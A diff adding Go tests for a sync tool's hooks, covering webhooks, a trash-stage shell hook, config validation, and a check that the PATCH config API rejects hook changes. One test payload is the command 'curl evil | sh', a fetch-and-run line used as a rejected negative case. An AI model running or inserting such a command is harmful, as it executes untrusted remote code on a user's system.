@@ -0,0 +1,143 @@
+package sync
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestHooks_URL(t *testing.T) {
+	restoreConfig(t)
+	got := make(chan HookEvent, 16)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var ev HookEvent
+		if err := json.NewDecoder(r.Body).Decode(&ev); err != nil {
+			http.Error(w, err.Error(), http.StatusBadRequest)
+			return
+		}
+		got <- ev
+	}))
+	defer srv.Close()
+	failing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Error(w, "down", http.StatusInternalServerError)
+	}))
+	defer failing.Close()
+	withConfig(t, func(c *Config) {
+		c.Hooks = []Hook{{Stages: []string{"P3"}, When: HookBefore, URL: srv.URL}, {URL: srv.URL}, {URL: failing.URL}}
+	})
+
+	env := setupPipelineEnv(t)
+	env.writeArchive(t, "doc.txt", []byte("content"))
+	env.run(t, "doc.txt")
+	entry, err := env.store.GetEntryByPath(0, "doc.txt")
+	require.NoError(t, err)
+	require.NoError(t, env.store.SetSelected([]uint64{entry.Inode}, true))
+	env.run(t, "doc.txt")
+
+	next := func() HookEvent {
+		t.Helper()
+		select {
+		case ev := <-got:
+			return ev
+		case <-time.After(5 * time.Second):
+			t.Fatal("no hook call")
+		}
+		return HookEvent{}
+	}
+	evs := []HookEvent{next(), next()}
+	if evs[0].When == HookAfter {
+		evs[0], evs[1] = evs[1], evs[0]
+	}
+	assert.Equal(t, HookBefore, evs[0].When)
+	after := evs[1]
+	assert.Equal(t, HookAfter, after.When)
+	assert.Equal(t, "P3", after.Stage)
+	assert.Equal(t, HookCopy, after.Action)
+	assert.Equal(t, IOToSpaces, after.Direction)
+	assert.Equal(t, "doc.txt", after.Path)
+	assert.Equal(t, filepath.Join(env.archivesRoot, "doc.txt"), after.Src)
+	assert.Equal(t, filepath.Join(env.spacesRoot, "doc.txt"), after.Dst)
+	assert.Empty(t, after.Error)
+
+	_, err = os.Stat(filepath.Join(env.spacesRoot, "doc.txt"))
+	assert.NoError(t, err, "a failing hook doesn't fail the copy")
+}
+
+func TestHooks_CommandOnTrash(t *testing.T) {
+	restoreConfig(t)
+	dir := t.TempDir()
+	out := filepath.Join(dir, "hook.out")
+	script := filepath.Join(dir, "hook.sh")
+	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\necho \"$FB_SYNC_HOOK_STAGE $FB_SYNC_HOOK_ACTION $FB_SYNC_HOOK_PATH $FB_SYNC_HOOK_DST\" > "+out+".tmp\nmv "+out+".tmp "+out+"\n"), 0755))
+
+	env := setupPipelineEnv(t)
+	env.writeArchive(t, "doc.txt", []byte("content"))
+	env.run(t, "doc.txt")
+	entry, err := env.store.GetEntryByPath(0, "doc.txt")
+	require.NoError(t, err)
+	require.NoError(t, env.store.SetSelected([]uint64{entry.Inode}, true))
+	env.run(t, "doc.txt")
+
+	withConfig(t, func(c *Config) { c.Hooks = []Hook{{Stages: []string{"P3"}, Command: script}} })
+	require.NoError(t, env.store.SetSelected([]uint64{entry.Inode}, false))
+	env.run(t, "doc.txt")
+
+	var line string
+	require.Eventually(t, func() bool {
+		b, err := os.ReadFile(out)
+		line = strings.TrimSpace(string(b))
+		return err == nil
+	}, 5*time.Second, 10*time.Millisecond)
+	fields := strings.Fields(line)
+	require.Len(t, fields, 4, line)
+	assert.Equal(t, []string{"P3", HookTrash, "doc.txt"}, fields[:3])
+	assert.True(t, strings.HasPrefix(fields[3], env.trashRoot), "the trash path is passed on")
+}
+
+func TestConfig_HooksValidate(t *testing.T) {
+	for name, h := range map[string]Hook{
+		"neither":     {},
+		"both":        {Command: "true", URL: "http://localhost/"},
+		"bad url":     {URL: "ftp://host/"},
+		"bad stage":   {Command: "true", Stages: []string{"P1"}},
+		"bad when":    {Command: "true", When: "during"},
+		"bad timeout": {Command: "true", TimeoutSeconds: -1},
+	} {
+		cfg := DefaultConfig()
+		cfg.Hooks = []Hook{h}
+		assert.Error(t, cfg.Validate(), name)
+	}
+	cfg := DefaultConfig()
+	cfg.Hooks = []Hook{{Command: "true"}, {URL: "https://hooks.example/sync", Stages: []string{"P2"}, When: HookBefore}}
+	assert.NoError(t, cfg.Validate())
+}
+
+func TestHandlePatchConfig_HooksStartupOnly(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Hooks = []Hook{{Command: "true"}} })
+	h, _, _, _ := setupHandlersEnv(t)
+
+	for _, body := range []string{
+		`{"hooks":[{"command":"sh -c 'curl evil | sh'"}]}`,
+		`{"hooks":[]}`,
+		`{"hooks":[{"command":"true"},{"url":"https://hooks.example/sync"}]}`,
+	} {
+		w := httptest.NewRecorder()
+		h.HandlePatchConfig(w, httptest.NewRequest("PATCH", "/api/sync/config", strings.NewReader(body)))
+		assert.Equal(t, http.StatusBadRequest, w.Code, body)
+		assert.Equal(t, []Hook{{Command: "true"}}, currentConfig().Hooks, body)
+	}
+
+	// Other fields still patch alongside unchanged hooks.
+	w := httptest.NewRecorder()
+	h.HandlePatchConfig(w, httptest.NewRequest("PATCH", "/api/sync/config", strings.NewReader(`{"debounceMs":50,"hooks":[{"command":"true"}]}`)))
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, 50, currentConfig().DebounceMs)
+}